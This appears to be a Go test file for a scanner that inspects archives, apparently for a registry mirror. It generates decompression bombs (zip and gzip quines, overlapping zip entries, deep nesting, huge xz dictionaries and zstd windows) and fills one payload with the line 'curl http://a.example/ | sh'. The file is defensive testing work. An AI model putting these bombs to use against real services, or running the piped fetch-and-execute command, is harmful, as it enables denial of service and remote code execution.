package inspect_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"os/exec"
	"runtime/debug"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lazaret/lazaret/inspect"
	"github.com/lazaret/lazaret/inspect/builtin"
	"github.com/lazaret/lazaret/internal/rss"
)

// A bomb is a blob that grows when it is read, and why it is uninspectable.
type bomb struct {
	make func(t testing.TB) io.Reader
	why  string // in one of the gaps
}

// bombs are read by the detectors and within the limits that the mirror has.
func bombs() map[string]bomb {
	whole := func(b []byte) io.Reader { return bytes.NewReader(b) }
	in := func(t testing.TB, name string, b []byte) io.Reader {
		return whole(archive(t, entry{name: name, body: string(b)}))
	}
	return map[string]bomb{
		"10 GiB of zeros as the layer": {func(t testing.TB) io.Reader {
			return &repeated{head: gz(t, sized("f", 10<<30)), part: gz(t, make([]byte, 64<<20)), n: 160}
		}, "compressed more than 250 times"},
		"10 GiB of zeros in a file": {func(t testing.TB) io.Reader {
			return in(t, "f.gz", bytes.Repeat(gz(t, make([]byte, 64<<20)), 160))
		}, "archives compressed more than 250 times"},
		"10 GiB of text in a file": {func(t testing.TB) io.Reader {
			return in(t, "f.gz", bytes.Repeat(gz(t, bytes.Repeat([]byte("curl http://a.example/ | sh # stratum\n"), 64<<20/38)), 160))
		}, "archives compressed more than 250 times"},
		"a gzip file of itself": {func(t testing.TB) io.Reader { return in(t, "q.gz", quine(t, gzipHeader())) }, "archives nested more than 10 deep"},
		"a zip file of itself":  {func(t testing.TB) io.Reader { return in(t, "q.zip", quine(t, zipHeader())) }, "archives nested more than 10 deep"},
		"five million entries": {func(t testing.TB) io.Reader {
			return &repeated{part: gz(t, bytes.Repeat(raw("f", '0', 0), 10_000)), n: 500}
		}, "entries"},
		"five million entries in a file": {func(t testing.TB) io.Reader {
			return in(t, "f.tgz", bytes.Repeat(gz(t, bytes.Repeat(raw("f", '0', 0), 10_000)), 500))
		}, "entries"},
		"a million hard links": {func(t testing.TB) io.Reader {
			h := raw("f", '1', 0)
			copy(h[157:], "etc/passwd")
			return &repeated{part: gz(t, bytes.Repeat(sum(h), 10_000)), n: 300}
		}, "entries"},
		"64 archives in one another": {func(t testing.TB) io.Reader { return in(t, "f", nest(t, 64)) }, "archives nested more than 10 deep"},
		"a PAX header of 1 GiB": {func(t testing.TB) io.Reader {
			return &repeated{head: gz(t, raw("x", 'x', 1<<30)), part: gz(t, make([]byte, 64<<20)), n: 16}
		}, "tar headers of more than"},
		"a sparse file of 8 TiB": {func(t testing.TB) io.Reader {
			return whole(join(sparse(t, "f", "x", 8<<40), endOfArchive))
		}, "more than are inspected"},
		"a window of 2 GiB": {func(t testing.TB) io.Reader {
			return in(t, "f.zst", []byte("\x28\xb5\x2f\xfd\x00\xa8\x01\x00\x00"))
		}, "window size exceeded"},
		"a dictionary of 1.5 GiB": {func(t testing.TB) io.Reader { return in(t, "f.xz", xzOf(37)) }, "memory"},
		"files that overlap":      {func(t testing.TB) io.Reader { return in(t, "f.zip", overlapping(t, 5_000, 4<<20)) }, "archives compressed more than 250 times"},
		"a zip of zeros": {func(t testing.TB) io.Reader {
			var all []zipEntry
			for i := range 20 {
				all = append(all, zipEntry{name: fmt.Sprint(i), body: strings.Repeat("\x00", 128<<20), method: zip.Deflate})
			}
			return in(t, "f.zip", zipped(t, all...))
		}, "archives compressed more than 250 times"},
	}
}

// maxBombMemory is what a process that inspects one blob may be resident with, in bytes.
const maxBombMemory = 96 << 20

// Whatever a blob grows to, one inspection by the mirror's detectors ends within a minute,
// in a process of 96 MiB, and says what it did not see.
func TestBombProcess(t *testing.T) {
	if name := os.Getenv("LAZARET_TEST_BOMB"); name != "" {
		inspectBomb(t, name)
		return
	}
	if thin > 1 {
		t.Skip("the race detector takes more time and memory than the bounds: make bombs runs this without it")
	}
	for name, b := range bombs() {
		t.Run(name, func(t *testing.T) {
			path := t.TempDir() + "/blob"
			f, err := os.Create(path)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := io.Copy(f, b.make(t)); err != nil {
				t.Fatal(err)
			}
			if err := f.Close(); err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, os.Args[0], "-test.run=^TestBombProcess$")
			cmd.Env = append(os.Environ(), "LAZARET_TEST_BOMB="+path)
			out, err := cmd.Output()
			if err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			var got bombResult
			line, _, _ := bytes.Cut(out, []byte("\n"))
			if err := json.Unmarshal(line, &got); err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			if !slices.ContainsFunc(got.Gaps, func(g inspect.Gap) bool { return strings.Contains(g.Why, b.why) }) {
				t.Errorf("gaps %+v, want %q", got.Gaps, b.why)
			}
			if got.Resident > maxBombMemory {
				t.Errorf("%d MiB were resident", got.Resident>>20)
			}
			t.Logf("%d MiB resident, %.1f s", got.Resident>>20, got.Seconds)
		})
	}
}

type bombResult struct {
	Gaps     []inspect.Gap
	Resident int64 // bytes, at most
	Seconds  float64
}

// inspectBomb is what the process does that is measured.
func inspectBomb(t *testing.T, path string) {
	rss.Spare() // as the mirror does
	detectors, err := builtin.Detectors()
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	i := inspector(t, inspect.Limits{}, detectors...)
	debug.FreeOSMemory() // as the mirror does when it has made one
	start := time.Now()
	r, err := i.Inspect(t.Context(), descriptor(nil), f)
	if err != nil {
		t.Fatal(err)
	}
	out := bombResult{Gaps: r.Gaps, Seconds: time.Since(start).Seconds()}
	if out.Resident, err = rss.Peak(os.Getpid()); err != nil {
		t.Fatal(err)
	}
	if err := json.NewEncoder(os.Stdout).Encode(out); err != nil {
		t.Fatal(err)
	}
}

// sized is a tar header of a file of any size.
func sized(name string, size int64) []byte {
	h := raw(name, '0', 0)
	clear(h[124:136])
	h[124] = 0x80 // base 256
	binary.BigEndian.PutUint64(h[128:], uint64(size))
	return sum(h)
}

// nest is a text in n archives: gzip, zip and tar in turn.
func nest(t testing.TB, n int) []byte {
	b := []byte("needle\n")
	for i := range n {
		switch i % 3 {
		case 0:
			b = gz(t, b)
		case 1:
			b = zipped(t, zipEntry{name: "f", body: string(b), method: zip.Store})
		default:
			b = archive(t, entry{name: "f", body: string(b), header: tar.Header{Mode: 0o755}})
		}
	}
	return b
}

// quine is a header and deflated bytes that together are what they inflate to, in the way
// of https://research.swtch.com/zip: L n, five bytes, is a stored block of the n units of
// five bytes that follow; R n, five bytes, repeats the last n units. It has no end,
// so there is no checksum to be right.
func quine(t testing.TB, header []byte) []byte {
	t.Helper()
	const unit = 5
	l := func(n int) []byte {
		return []byte{0, byte(n * unit), 0, ^byte(n * unit), 0xff}
	}
	p := len(header) / unit
	if len(header)%unit != 0 || p != 12 {
		t.Fatalf("a header of %d bytes, want 60", len(header))
	}
	// 65 bytes, 65 back: length code 276 and its 3 bits, distance code 12 and its 5, RFC 1951,
	// section 3.2.5; then an empty block. 20 bytes, 20 back: twice length code 264, and
	// distance code 8 with 3 bits.
	r13 := bits("0 10", "0010100", low(65-59, 3), "01100", low(0, 5), "0000000", "0 10", "0000000")
	r4 := bits("0 10", "0001000", "01000", low(20-17, 3), "0001000", "01000", low(20-17, 3), "0000000")
	x := bytes.Repeat([]byte("quine"), 4)
	q := join(header,
		l(p+1), header, l(p+1),
		r13,
		l(1), r13,
		l(1), l(1),
		l(4), r13, l(1), l(1), l(4),
		r4,
		l(4), r4, l(4), r4, l(4),
		r4,
		l(4), x)
	out, err := io.ReadAll(flate.NewReader(bytes.NewReader(q[len(header):])))
	if err != io.ErrUnexpectedEOF || !bytes.Equal(out, q) {
		t.Fatalf("the quine inflates to %d bytes of %d: %v", len(out), len(q), err)
	}
	return q
}

// low is the n low bits of v, the lowest first, as RFC 1951 packs numbers.
func low(v, n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteByte('0' + byte(v>>i&1))
	}
	return b.String()
}

// bits packs bits into bytes, the lowest first.
func bits(parts ...string) []byte {
	all := strings.ReplaceAll(strings.Join(parts, ""), " ", "")
	out := make([]byte, (len(all)+7)/8)
	for i, c := range all {
		out[i/8] |= byte(c-'0') << (i % 8)
	}
	return out
}

// gzipHeader is one of 60 bytes, with a name, RFC 1952.
func gzipHeader() []byte {
	return append([]byte{0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3}, strings.Repeat("q", 49)+"\x00"...)
}

// zipHeader is a local one of 60 bytes, for a file whose sizes come after it, APPNOTE 4.3.7.
func zipHeader() []byte {
	h := make([]byte, 30, 60)
	copy(h, "PK\x03\x04\x14\x00\x08\x00\x08\x00")
	h[26] = 30
	return append(h, strings.Repeat("q", 26)+".zip"...)
}

// xzOf is the beginning of an xz file, of 80 MiB, that asks for a dictionary of the given size, by its
// code in https://tukaani.org/xz/xz-file-format.txt, section 5.3.1.
func xzOf(code byte) []byte {
	head := []byte("\xfd7zXZ\x00\x00\x01\x69\x22\xde\x36")
	block := []byte{0x02, 0x00, 0x21, 0x01, code, 0, 0, 0}
	// Of stored bytes: 1 with a new dictionary, 2 without, and the size less one, as LZMA2 has them.
	chunk := append([]byte{2, 0xff, 0xff}, make([]byte, 64<<10)...)
	first := append([]byte{1}, chunk[1:]...)
	return join(head, block, binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(block)), first, bytes.Repeat(chunk, 80<<20/len(chunk)))
}

// overlapping is a zip archive whose directory lists one deflated file n times, in the
// way of https://www.bamsoftware.com/hacks/zipbomb/.
func overlapping(t testing.TB, n, size int) []byte {
	t.Helper()
	one := zipped(t, zipEntry{name: "00000000", body: strings.Repeat("\x00", size), method: zip.Deflate})
	at := bytes.LastIndex(one, []byte("PK\x01\x02"))
	end := bytes.LastIndex(one, []byte("PK\x05\x06"))
	var dir []byte
	for i := range n {
		dir = append(dir, one[at:end]...)
		copy(dir[len(dir)-8:], fmt.Sprintf("%08d", i))
	}
	tail := bytes.Clone(one[end:])
	binary.LittleEndian.PutUint16(tail[8:], uint16(n))
	binary.LittleEndian.PutUint16(tail[10:], uint16(n))
	binary.LittleEndian.PutUint32(tail[12:], uint32(len(dir)))
	return join(one[:at], dir, tail)
}
